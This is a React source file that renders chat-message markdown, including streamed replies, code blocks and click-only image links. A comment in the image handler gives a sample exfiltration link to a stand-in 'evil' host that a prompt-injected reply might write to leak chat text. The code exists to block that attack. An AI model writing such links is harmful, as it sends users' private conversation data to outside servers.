// Markdown for chat messages, and the live reply that grows by appended chunks.
//
// Embedded in the generated page modules by markdown.py (its imports are declared there,
// so the dev server bundles them at start-up). `Markdown` renders a finished message. `LiveMarkdown` renders a streaming one from
// three props: `base`, the text at the last full sync, then `chunk`, the text that starts
// at `offset`. Each update from the server brings only the new chunk, so text already on
// screen is never sent again. A chunk past the end of what this tab holds (a lost update)
// calls `onGap`, and the server answers with a new `base`.
import { memo, useEffect, useRef, useState } from "react";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { PrismAsyncLight as SyntaxHighlighter } from "react-syntax-highlighter";

function CodeBlock({ language, code }) {
  const [copied, setCopied] = useState(false);
  const copy = () =>
    navigator.clipboard?.writeText(code).then(() => {
      setCopied(true);
      setTimeout(() => setCopied(false), 1200);
    });
  return (
    <div className="code-block">
      <button type="button" className="copy-code" data-testid="copy-code" title="Copy code"
        aria-label="Copy code" onClick={copy}>{copied ? "Copied" : "Copy"}</button>
      {/* Token colours come from chatstream.css (classes, not inline styles), in Radix
          colours that have light and dark values, so code reads well in both themes. */}
      <SyntaxHighlighter language={language} style={{}} useInlineStyles={false} wrapLongLines>
        {code}
      </SyntaxHighlighter>
    </div>
  );
}

// Lucide's "image" glyph, drawn inline: an emoji would need a font the reader may not have.
const ImageIcon = () => (
  <svg className="md-image-icon" aria-hidden="true" viewBox="0 0 24 24" width="1em"
    height="1em" fill="none" stroke="currentColor" strokeWidth="2" strokeLinecap="round"
    strokeLinejoin="round">
    <rect x="3" y="3" width="18" height="18" rx="2" />
    <circle cx="9" cy="9" r="2" />
    <path d="m21 15-3.1-3.1a2 2 0 0 0-2.8 0L6 21" />
  </svg>
);

const components = {
  pre({ children }) {
    const code = children?.props ?? {};
    const language = /language-([\w+-]+)/.exec(code.className || "")?.[1] ?? "text";
    return <CodeBlock language={language} code={String(code.children ?? "").replace(/\n$/, "")} />;
  },
  a({ node, ...props }) {
    return <a {...props} target="_blank" rel="noopener noreferrer nofollow" />;
  },
  // An image is never loaded by itself: its address could carry the chat's text to any
  // server (a reply steered by a prompt injection writes `![](https://evil/?q=secret)`).
  // It is a link instead, opened in a new tab only if the reader clicks it.
  img({ node, src, alt, title }) {
    return (
      <a href={src} title={title || src} target="_blank" rel="noopener noreferrer nofollow"
        className="md-image" data-testid="md-image">
        <ImageIcon />{alt || "image"}
      </a>
    );
  },
};

const remarkPlugins = [remarkGfm];

// No rehype-raw: HTML in a message stays text (an <img> tag too); react-markdown drops
// javascript: URLs. Nothing a message contains makes the browser fetch anything.
// Memoized on its text: a finished message is parsed once, never again when the list it is
// in renders (a reply handed over, a message added) while its own text stays the same.
const Markdown = memo(function Markdown({ source }) {
  return (
    <ReactMarkdown remarkPlugins={remarkPlugins} components={components}>
      {source ?? ""}
    </ReactMarkdown>
  );
});
Markdown.displayName = "Markdown";

// The first message a page shows would pay for the markdown code's first run (the browser
// compiles a function when it is first called; parser, GFM, the tree to React elements),
// just as its reply starts: on the dev server, Chromium's profiler put 8.2 ms of a new
// chat's first send in react-markdown's code, 1.3 with this. It runs once instead, with a
// small text, when the page is idle after loading (once per page load: the code is in
// every page module that shows markdown).
const WARM_UP = "Hi *there*, **a** `b` [c](https://c.example)\n\n- d\n1. e\n\n| f |\n|---|\n| g |\n\n```\nh\n```";
if (typeof window !== "undefined" && !window.chatstreamMarkdownWarm) {
  window.chatstreamMarkdownWarm = true;
  const warmUp = () => ReactMarkdown({ children: WARM_UP, remarkPlugins, components });
  (window.requestIdleCallback ?? ((run) => setTimeout(run, 100)))(warmUp, { timeout: 2000 });
}

function LiveMarkdown({ base, chunk, offset, onGap }) {
  const held = useRef({ base: null, text: "" });
  if (held.current.base !== base) held.current = { base, text: base ?? "" };
  const text = held.current.text;
  const gap = offset > text.length;
  if (!gap && offset + chunk.length > text.length) {
    held.current.text = text.slice(0, offset) + chunk;
  }
  useEffect(() => {
    if (gap && onGap) onGap();
  }, [gap, base, offset]);
  return <Markdown source={held.current.text} />;
}
